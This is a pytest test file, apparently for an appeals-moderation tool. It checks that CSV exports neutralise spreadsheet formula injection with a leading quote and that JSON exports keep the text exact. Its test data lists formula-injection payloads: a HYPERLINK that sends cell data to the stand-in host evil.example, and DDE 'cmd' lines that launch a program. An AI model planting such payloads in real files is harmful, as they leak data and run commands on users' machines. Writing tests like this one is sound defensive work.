"""Finding 6: text that a spreadsheet would run as a formula is neutralised in CSV
exports (a leading `'`, as OWASP recommends); JSON exports keep the text exact."""

from __future__ import annotations

import csv
import io
import json

import pytest

from appeals_tui.services import decisions, intake
from appeals_tui.services.decisions import DecisionDraft
from appeals_tui.services.export import export_decisions
from tests.conftest import PROMO, case_for, report, write_jsonl

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3 is what the comic says.",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 hidden behind a tab.",
    "\r=1+1 hidden behind a carriage return.",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_csv_cells_cannot_start_a_formula(sessions, attack: str, tmp_path) -> None:
    minji = sessions("minji")
    reasoning = attack + " The comic ends with a KakaoTalk ID for booking."
    intake.import_reports(
        minji, write_jsonl(tmp_path / "r.jsonl", [report("R-F", "F1", account=attack.strip())])
    )
    made = decisions.decide(
        minji,
        case_for(minji, "F1"),
        DecisionDraft("remove_content", ["CSS-3"], dict(PROMO), reasoning),
    )
    stored = made.reasoning  # leading whitespace is trimmed when saved
    out = io.StringIO()
    export_decisions(minji, "csv", out)
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["reasoning"] == "'" + stored
    assert row["account"] == "'" + attack.strip()
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    out = io.StringIO()
    export_decisions(minji, "jsonl", out)
    exact = json.loads(out.getvalue().splitlines()[0])
    assert exact["reasoning"] == stored and exact["account"] == attack.strip()
